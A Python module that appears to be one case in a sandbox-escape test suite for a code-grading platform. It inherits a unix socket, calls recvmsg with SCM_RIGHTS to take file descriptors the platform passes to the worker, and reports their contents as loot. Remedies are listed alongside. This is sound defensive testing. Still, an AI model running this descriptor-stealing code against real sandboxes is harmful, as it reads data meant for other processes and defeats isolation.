# SPDX-License-Identifier: MIT
"""Goal:  the next request, which the platform passes to the worker as an open file.
Means: the inherited link is a unix socket, and those carry descriptors. Whoever calls recvmsg(2)
       first gets them: closing everything once at the start says nothing about what comes later.
"""

import os
import select
import socket
import stat

from attack import DONE, attempting, denied, loot


def links():
    """The sockets we were born with."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass  # nothing there


def passed_over(link):
    """Greet the platform, and read the files that come with its answer."""
    link.sendall(b"ready\n")
    if not select.select([link], [], [], 2)[0]:
        raise TimeoutError("the platform does not answer")
    return [os.pread(fd, 256, 0) for fd in socket.recv_fds(link, 4096, 8)[1]]


def run(_brief):
    why = "no socket was inherited"
    attempting()
    for link in links():
        try:
            files = passed_over(link)
        except OSError as error:
            why = error
            continue
        if files:
            loot(b"\n".join(files))
            return DONE
    return denied("recvmsg", why)


ATTACK = {
    "effect": "a file that the platform passes to the worker reaches the student",
    "means": "recvmsg(2) with SCM_RIGHTS on an inherited unix socket",
    "oracle": "secret:passed-fd",
    "id": "FDS-11",
    "attack_id": "T1557, CWE-403",
    "remedy": "close_range(2) before the student's program starts; seccomp without recvmsg(2)",
    "refs": ["unix(7), SCM_RIGHTS"],
    "run": run,
}
